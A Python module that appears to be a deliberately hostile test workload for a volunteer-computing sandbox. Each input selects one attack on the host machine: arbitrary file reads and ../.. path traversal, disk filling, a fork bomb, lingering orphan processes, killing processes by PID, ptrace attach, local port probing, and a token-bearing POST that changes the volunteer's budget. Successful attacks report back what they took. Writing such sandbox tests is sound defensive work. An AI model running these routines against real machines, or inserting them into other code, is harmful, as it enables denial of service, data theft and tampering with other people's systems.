"""A hostile workload: it tries one attack on the volunteer's machine, chosen by its unit.

The attack is the unit's payload["attack"] with payload["target"], or, run as a link-check
bundle by a real peer, the first label of the first item's host (http://read.attack.test/...)
with the target in the URL's query (?target=...). An attack that succeeds returns what it took
as an "ok" result; one that fails exits 3 (bad input: not retried) with one line saying how it
failed. Imports nothing but the standard library and the process API, as a stranger's bundle.
"""

from __future__ import annotations

import ctypes
import os
import signal
import socket
import sys
import time
import urllib.parse
import urllib.request

from workloads.process_api import FrameDecoder, Result, Unit, encode_frame


def _send(message: dict) -> None:
    sys.stdout.buffer.write(encode_frame(message))
    sys.stdout.buffer.flush()


def _receive_unit() -> Unit:
    decoder = FrameDecoder()
    while True:
        chunk = os.read(0, 65536)
        if not chunk:
            sys.exit("stdin closed")
        for message in decoder.feed(chunk):
            return Unit.from_frame(message)


def read(target: str) -> str:
    with open(target, "rb") as f:
        return f.read(4096).hex()


def listing(target: str) -> str:
    return ",".join(sorted(os.listdir(target)))


def connect(target: str) -> str:
    host, port = target.rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=3) as conn:
        conn.sendall(b"GET /status HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n")
        return conn.recv(4096).decode("latin-1")


def resolve(target: str) -> str:
    return repr(socket.getaddrinfo(target, 80))


def write(target: str) -> str:
    with open(target, "w") as f:
        f.write("written by a stranger's bundle")
    return f"wrote {target}"


def fill(target: str) -> str:
    chunk = b"x" * (1024 * 1024)
    with open(target, "wb") as f:
        for _ in range(1024):  # a GiB, far beyond any tmp a peer gives
            f.write(chunk)
            f.flush()
    return "wrote 1 GiB"


def fork(target: str) -> str:
    """Fork `target` children that wait; a process limit stops it with EAGAIN."""
    children = []
    try:
        for _ in range(int(target)):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            children.append(pid)
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
    return f"forked {len(children)} processes"


def fork_bomb(_target: str) -> str:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def allocate(target: str) -> str:
    block = bytearray(int(target))
    block[-1] = 1
    return f"holding {len(block)} bytes"


def orphan(target: str) -> str:
    """Leave a process behind in a session of its own that would outlive the unit; `target` is
    a mark to find it by on the host."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", f"import time; time.sleep(60)  # {target}"])
        os._exit(0)
    os.wait()
    raise RuntimeError("orphan left behind (it must die with the unit)")


def open_files(target: str) -> str:
    held = [open("/dev/null") for _ in range(int(target))]
    return f"holding {len(held)} open files"


def linger(target: str) -> str:
    """Become a process that sleeps for a minute, `target` in its command line."""
    os.execv(sys.executable, [sys.executable, "-c", f"import time; time.sleep(60)  # {target}"])


def signal_process(target: str) -> str:
    os.kill(int(target), signal.SIGKILL)
    return f"killed {target}"


def ptrace(target: str) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, int(target), None, None) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), f"ptrace: {os.strerror(ctypes.get_errno())}")
    return f"attached to {target}"


def change_budget(target: str) -> str:
    """Change the volunteer's budget through their own page, as a page script would: `target`
    is host:port|token."""
    address, token = target.split("|", 1)
    request = urllib.request.Request(
        f"http://{address}/budget",
        data=b'{"max_down": "1B/s"}',
        headers={"X-Osaas-Token": token, "Content-Type": "application/json"},
        method="POST",
    )
    with urllib.request.urlopen(request, timeout=3) as answer:
        return answer.read().decode()


def escape_upwards(target: str) -> str:
    """Read `target` (a path relative to the peer's data dir) through ../.. from the cwd."""
    return read(os.path.join(*[".."] * 12, target.lstrip("/")))


ATTACKS = {
    name: function
    for name, function in globals().items()
    if callable(function) and not name.startswith("_") and name not in {"main"} and function.__module__ == __name__
}


def _from_items(payload: dict) -> tuple[str, str]:
    url = urllib.parse.urlsplit(payload["items"][0]["url"])
    query = urllib.parse.parse_qs(url.query)
    return (url.hostname or "").split(".")[0].replace("-", "_"), query.get("target", [""])[0]


def main() -> None:
    unit = _receive_unit()
    payload = unit.payload
    attack, target = (payload["attack"], payload["target"]) if "attack" in payload else _from_items(payload)
    try:
        loot = ATTACKS[attack](target)
    except BaseException as exc:
        reason = f"attack {attack} failed: {type(exc).__name__}: {exc}"
        _send(Result(status=3, payload={}, error=reason).to_frame())
        sys.exit(3)
    items = payload.get("items") or [{"url": "attack:"}]
    loot_items = [{"url": item["url"], "result": "ok", "status": 200, "error": loot[:2000]} for item in items]
    _send(Result(status=0, payload={"unit_id": unit.unit_id, "loot": loot, "items": loot_items}).to_frame())
    sys.exit(0)


if __name__ == "__main__":
    main()
